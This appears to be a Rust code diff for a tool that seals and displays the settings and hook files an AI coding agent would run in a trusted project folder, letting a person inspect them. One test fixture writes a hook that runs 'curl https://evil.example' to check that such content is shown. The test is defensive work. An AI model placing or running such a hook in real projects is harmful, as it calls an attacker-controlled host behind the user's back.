@@ -6,7 +6,10 @@ use super::{
     grant::{Grant, SETTINGS_MAX, is_settings, meaning},
     open,
 };
-use model::Millis;
+use model::{
+    Millis,
+    projects::{OwnFile, OwnFiles},
+};
 use std::{
     collections::BTreeMap,
     fs::{self, Metadata},
@@ -69,7 +72,7 @@ pub(super) fn look(folder: &Path, trusted: Option<&str>, kept: &mut Option<Seale
                 return is_one_of(trusted, &sealed.seal);
             }
             let settled = files.iter().all(|(_, found)| changed(found).saturating_add(SETTLED_MS) < now);
-            let Ok(contents) = Contents::of(folder, files, None) else { return false };
+            let Ok(contents) = Contents::of(folder, files, Keep::Nothing) else { return false };
             let seal = contents.seal(folder);
             let holds = is_one_of(trusted, &seal);
             *kept = settled.then_some(Sealed { stamp, seal });
@@ -99,16 +102,59 @@ fn changed(found: &Metadata) -> Millis {
     found.ctime().saturating_mul(1_000).saturating_add(found.ctime_nsec() / 1_000_000)
 }
 
+/// So many files are shown,
+const SHOWN_FILES: usize = 200;
+/// so many bytes of each,
+const SHOWN_BYTES: u64 = 32 * 1024;
+/// and so many of all together.
+const SHOWN_BYTES_ALL: u64 = 256 * 1024;
+
+/// What the folder would run, with what stands in the files, and the seal over exactly that: each file is read once.
+pub(super) fn own_files(folder: &Path) -> OwnFiles {
+    let (mut found, lack) = gather(folder);
+    found.sort_by(|(one, _), (other, _)| one.cmp(other));
+    let omitted = i64::try_from(found.len().saturating_sub(SHOWN_FILES)).unwrap_or(i64::MAX);
+    let mut files: Vec<OwnFile> = found
+        .iter()
+        .take(SHOWN_FILES)
+        .map(|(path, found)| OwnFile { name: shown(folder, path), size: i64::try_from(found.len()).unwrap_or(i64::MAX), text: None, cut: true })
+        .collect();
+    let read = match lack {
+        Some(why) => Err(why),
+        None => Contents::of(folder, found, Keep::Beginnings),
+    };
+    match read {
+        Ok(contents) => {
+            for (file, begins) in files.iter_mut().zip(&contents.beginnings) {
+                let (text, cut) = beginning(begins);
+                file.cut = cut || begins.len() as u64 != file.size.unsigned_abs();
+                file.text = text;
+            }
+            OwnFiles { files, omitted, seal: Some(contents.seal(folder)), lack: None }
+        }
+        Err(why) => OwnFiles { files, omitted, seal: None, lack: Some(why.to_string()) },
+    }
+}
+
+/// The first bytes of a file as text, which may end within a character; `None` where it is no text.
+fn beginning(bytes: &[u8]) -> (Option<String>, bool) {
+    match std::str::from_utf8(bytes) {
+        Ok(text) => (Some(text.to_owned()), false),
+        Err(error) if error.error_len().is_none() => (String::from_utf8(bytes[..error.valid_up_to()].to_vec()).ok(), true),
+        Err(_) => (None, true),
+    }
+}
+
 /// BLAKE3 (hex) over names and contents of everything the folder would run.
 pub(super) fn seal(folder: &Path) -> Result<String, Unvouchable> {
-    Ok(Contents::read(folder, None)?.seal(folder))
+    Ok(Contents::read(folder, Keep::Nothing)?.seal(folder))
 }
 
 /// What is trusted once a person has granted something in a trusted folder: the folder as it is, and as it will be when the agent has written
 /// that, and nothing else has changed. `None` where the folder is not what was trusted.
 pub(super) fn follow(folder: &Path, trusted: &str, grant: &Grant) -> Option<String> {
     let file = grant.file(folder);
-    let mut contents = Contents::read(folder, Some(&file)).ok()?;
+    let mut contents = Contents::read(folder, Keep::Whole(&file)).ok()?;
     let now = contents.seal(folder);
     if !is_one_of(trusted, &now) {
         return None;
@@ -123,19 +169,32 @@ struct Contents {
     files: BTreeMap<PathBuf, blake3::Hash>,
     /// What stands in the settings that were asked for.
     kept: Option<Vec<u8>>,
+    /// How the first files begin, in the order they were given in.
+    beginnings: Vec<Vec<u8>>,
+}
+
+/// What of the contents is kept beside its hash.
+#[derive(Clone, Copy)]
+enum Keep<'p> {
+    Nothing,
+    /// All of these settings.
+    Whole(&'p Path),
+    /// What is shown to a person.
+    Beginnings,
 }
 
 impl Contents {
-    fn read(folder: &Path, keep: Option<&Path>) -> Result<Self, Unvouchable> {
+    fn read(folder: &Path, keep: Keep<'_>) -> Result<Self, Unvouchable> {
         match gather(folder) {
             (files, None) => Self::of(folder, files, keep),
             (_, Some(why)) => Err(why),
         }
     }
 
-    fn of(folder: &Path, files: Vec<(PathBuf, Metadata)>, keep: Option<&Path>) -> Result<Self, Unvouchable> {
-        let mut contents = Self { files: BTreeMap::new(), kept: None };
+    fn of(folder: &Path, files: Vec<(PathBuf, Metadata)>, keep: Keep<'_>) -> Result<Self, Unvouchable> {
+        let mut contents = Self { files: BTreeMap::new(), kept: None, beginnings: Vec::new() };
         let mut left = BYTES_MAX;
+        let mut room = SHOWN_BYTES_ALL;
         for (path, _) in files {
             let unreadable = |cause: io::Error| Unvouchable::unreadable(&shown(folder, &path), &cause);
             // What has taken its place since it was found, and would block or is no file, is refused.
@@ -143,18 +202,28 @@ impl Contents {
             left = left.checked_sub(length).ok_or_else(Unvouchable::too_much)?;
             // One byte more than there should be: what grows meanwhile, or has no length like the kernel's own files, must not pass for read.
             let mut file = file.take(length + 1);
+            let mut begins = Vec::new();
+            let shows = matches!(keep, Keep::Beginnings) && contents.beginnings.len() < SHOWN_FILES;
+            let most = if shows { SHOWN_BYTES.min(room) } else { 0 };
             let (read, hash) = if is_settings(&path) && length <= SETTINGS_MAX {
                 let mut bytes = Vec::new();
                 let read = file.read_to_end(&mut bytes).map_err(unreadable)? as u64;
-                if keep == Some(&path) {
+                if matches!(keep, Keep::Whole(wanted) if wanted == path) {
                     contents.kept = Some(bytes.clone());
                 }
+                begins.extend_from_slice(&bytes[..bytes.len().min(usize::try_from(most).unwrap_or(usize::MAX))]);
                 (read, blake3::hash(&meaning(bytes, None)))
             } else {
+                (&mut file).take(most).read_to_end(&mut begins).map_err(unreadable)?;
                 let mut hasher = blake3::Hasher::new();
+                hasher.update(&begins);
                 hasher.update_reader(file).map_err(unreadable)?;
                 (hasher.count(), hasher.finalize())
             };
+            if shows {
+                room -= begins.len() as u64;
+                contents.beginnings.push(begins);
+            }
             if read != length {
                 return Err(unreadable(io::Error::other("it changes while it is read")));
             }
@@ -387,6 +456,33 @@ mod tests {
         assert!(holds(&mut kept, later + 60_000));
         fs::rename(&hook, hook.with_file_name("c.sh")).unwrap();
         assert!(!holds(&mut kept, later + 60_000));
+    }
+
+    #[test]
+    fn what_would_run_is_shown_with_its_contents_under_the_seal_that_is_trusted() {
+        let folder = folder();
+        let put = |name: &str, bytes: &[u8]| fs::write(folder.path().join(".claude").join(name), bytes).unwrap();
+        put("settings.json", br#"{"hooks":{"Stop":[{"command":"curl https://evil.example"}]}}"#);
+        put("hooks/binary", b"\xff\xfe\x00");
+        put("hooks/long", "é".repeat(20_000).as_bytes());
+        let own = own_files(folder.path());
+        assert_eq!(own.seal, Some(seal(folder.path()).unwrap()));
+        let names: Vec<_> = own.files.iter().map(|file| (file.name.as_str(), file.size, file.cut)).collect();
+        assert_eq!(names, [(".claude/hooks/binary", 3, true), (".claude/hooks/long", 40_000, true), (".claude/settings.json", 60, false)]);
+        assert_eq!(own.files[0].text, None);
+        assert_eq!(own.files[1].text.as_deref(), Some("é".repeat(16 * 1024).as_str()));
+        assert!(own.files[2].text.as_deref().is_some_and(|text| text.contains("curl https://evil.example")));
+
+        for n in 0..300 {
+            put(&format!("hooks/{n:03}"), &vec![b'x'; 2_000]);
+        }
+        let own = own_files(folder.path());
+        let shown: usize = own.files.iter().map(|file| file.text.as_ref().map_or(0, String::len)).sum();
+        assert_eq!((own.files.len(), own.omitted, shown), (200, 103, 256 * 1024));
+        assert_eq!(own.seal, Some(seal(folder.path()).unwrap()), "what is not shown is sealed all the same");
+        symlink("/dev/zero", folder.path().join(".claude/hooks/zero")).unwrap();
+        let own = own_files(folder.path());
+        assert!(own.seal.is_none() && own.lack.is_some_and(|why| why.contains("neither a file nor a folder")));
     }
 
     #[test]
